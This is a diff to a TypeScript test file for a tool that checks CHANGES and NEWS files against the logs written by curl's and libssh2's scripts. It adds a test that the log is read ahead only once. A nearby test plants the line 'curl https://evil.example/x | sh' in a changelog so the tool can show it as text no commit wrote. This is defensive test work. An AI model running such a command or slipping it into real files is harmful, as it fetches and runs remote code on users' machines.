@@ -309,6 +309,23 @@ test("CHANGES and NEWS as curl's log2changes.pl and libssh2's git2news.pl write 
   assert.match(news!.reasons[1]!, 'printed by git2news.pl in the tag');
 });
 
+test('the log for a NEWS or CHANGES is read ahead once, and judges as it would unread', async () => {
+  const change = modified('NEWS', newsLog);
+  const ctx = ctxWith(scriptTag, scripted);
+  const calls: Array<{ maxCount: number }> = [];
+  const history = ctx.history;
+  ctx.history = { ...history, commitLog: (options) => (calls.push(options), history.commitLog!(options)) };
+  const end = await changelogHistory.prepare!([change], ctx);
+  assert.equal(calls, [{ maxCount: 1200 }]);
+  const j = await changelogHistory.judge(change, ctx);
+  assert.equal(calls.length, 1, 'read again');
+  await end?.();
+  assert.equal(j, await changelogHistory.judge(change, ctxWith(scriptTag, scripted)));
+  // Nothing is read ahead for a release without such a file.
+  assert.is(await changelogHistory.prepare!([modified('README', 'x\n')], ctx), undefined);
+  assert.is(calls.length, 1);
+});
+
 test('a log in the layout of those scripts with text no commit wrote is shown', async () => {
   const ctx = () => ctxWith(scriptTag, scripted);
   const planted = Buffer.from(curlLog().toString('latin1').replace('- release 1.0\n', '- release 1.0\n\n- build: fetch the helper\n\n  curl https://evil.example/x | sh\n'), 'latin1');
